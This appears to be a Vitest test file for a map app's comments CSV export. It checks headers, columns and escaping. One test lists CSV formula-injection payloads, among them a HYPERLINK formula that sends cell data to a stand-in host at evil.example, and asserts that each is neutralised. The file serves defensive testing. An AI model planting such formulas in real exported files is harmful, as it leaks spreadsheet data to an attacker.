import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ApiClient } from '../testing/apiClient.ts';
import { signUp } from '../testing/people.ts';
import { DATABASE_KINDS } from '../testing/testDatabase.ts';
import type { TestServer } from '../testing/testServer.ts';
import { startTestServer } from '../testing/testServer.ts';
import { addNote, Threads } from './testing/threads.ts';

describe.each(DATABASE_KINDS)('/api/maps/:id/threads.csv on the %s database', (kind) => {
  let server: TestServer;
  let ann: ApiClient;

  beforeAll(async () => {
    server = await startTestServer(kind);
    ann = await signUp(() => server.url, 'Ann');
  });
  afterAll(() => server?.close());

  async function csvOf(mapId: string) {
    const { status, headers, body } = await ann.send<string>('GET', `/api/maps/${mapId}/threads.csv`);
    expect(status).toBe(200);
    return { headers, rows: parseCsv(body), text: body };
  }

  it('has all that is known of each comment, a row for each', async () => {
    const map = await ann.create({ title: 'Buying a bike', template: 'classic' });
    const threads = new Threads(ann, `/api/maps/${map.id}`);
    const anchor = await addNote(ann, map, 'ad', 'Sees "the ad", twice');
    const { id, comments } = await threads.begin('Which one?\nAnd where?', { anchor });
    await threads.reply(id, { body: 'Größe 👍 “ok”' });
    await threads.react(id, comments[0]?.id ?? '', '👍');
    await threads.resolve(id);
    await ann.patch(map.id, [{ op: 'remove', in: 'cards', id: 'ad' }]);
    await threads.begin('About it all');
    const { headers, rows, text } = await csvOf(map.id);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toContain('filename="Buying a bike comments.csv"');
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    expect(rows.map((row) => row.length)).toEqual([14, 14, 14, 14]);
    const [head, ...lines] = rows;
    const records = lines.map((line) => Object.fromEntries(line.map((value, at) => [head?.[at], value])));
    expect(records[0]).toEqual({
      Thread: '1',
      Status: 'resolved',
      'Pinned to': 'card',
      'What it says': 'Sees "the ad", twice',
      'On the map': 'no',
      Stage: '',
      Comment: '1',
      Author: 'Ann',
      'Kind of author': 'member',
      Written: comments[0]?.createdAt,
      Changed: '',
      Text: 'Which one?\nAnd where?',
      Mentions: '',
      Reactions: '👍 1',
    });
    expect(records[1]).toMatchObject({ Thread: '1', Comment: '2', Text: 'Größe 👍 “ok”' });
    expect(records[2]).toMatchObject({ Thread: '2', Status: 'open', 'Pinned to': 'map', 'On the map': 'yes' });
  });

  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\n=1+1',
    '  =1+1',
    '＝1+1',
  ])('is never taken for a formula: %j', async (text) => {
    const map = await ann.create({ title: text.trim() });
    await new Threads(ann, `/api/maps/${map.id}`).begin(text);
    const [, row] = (await csvOf(map.id)).rows;
    expect(row?.[11]).toBe(`'${text}`);
    expect(row?.[3]).toBe(`'${text.trim()}`);
  });

  it('has one row for a map of which nobody said anything', async () => {
    expect((await csvOf((await ann.create()).id)).rows).toHaveLength(1);
  });
});

/** Reads RFC 4180. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    if (end === '' && row.length === 0) break;
    row.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}
